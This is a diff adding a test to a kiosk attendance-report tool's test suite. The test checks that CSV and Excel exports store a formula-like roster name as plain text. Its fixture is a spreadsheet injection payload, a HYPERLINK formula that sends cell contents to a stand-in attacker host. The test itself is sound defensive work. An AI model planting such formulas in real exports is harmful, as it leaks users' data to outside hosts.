@@ -16,8 +16,10 @@ from click.testing import CliRunner, Result
 from openpyxl import load_workbook
 
 from kiosk.central import Store
-from kiosk.central.reports.daily import Decided, day_bounds, entry_rows, summarise
+from kiosk.central.reports.daily import DailyList, Decided, day_bounds, entry_rows, summarise
+from kiosk.central.reports.export import render
 from kiosk.central.roster import Person
+from kiosk.central.settings import ReportFormat
 from kiosk.cli.main import cli
 from tests.central_reports_support import (
     DUC,
@@ -290,3 +292,20 @@ def test_attendance_names_who_checked_in_once_each_across_the_sites_kiosks(
     as_json = central(config, db_url, "report", "attendance", "Giao ban", "--site", SITE, "--json")
     first = json.loads(as_json.output.splitlines()[0])
     assert first["name"] == "Trần Văn Đức" and first["first_seen"] == "2026-12-06T08:55:00+07:00"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_roster_name_that_looks_like_a_formula_stays_text(fmt: ReportFormat) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Hằng")'
+    people = {HANG: Person(formula, "+1 Phòng", "staff")}
+    rows = entry_rows([Decided(local_ms(DAY, 8, 0), "gate-1", decision())], people, ZONE, SITE, "x")
+    data = render(DailyList(DAY, (SITE,), rows, summarise(rows)), fmt, "vi")
+    if fmt == "csv":
+        cells = next(csv.reader(io.StringIO(data.decode("utf-8-sig").splitlines()[1])))
+        name, unit = cells[4], cells[5]
+    else:
+        sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+        name_cell, unit_cell = sheet.cell(2, 5), sheet.cell(2, 6)
+        assert (name_cell.data_type, unit_cell.data_type) == ("s", "s")  # no formula cell
+        name, unit = name_cell.value, unit_cell.value
+    assert (name, unit) == ("'" + formula, "'+1 Phòng")
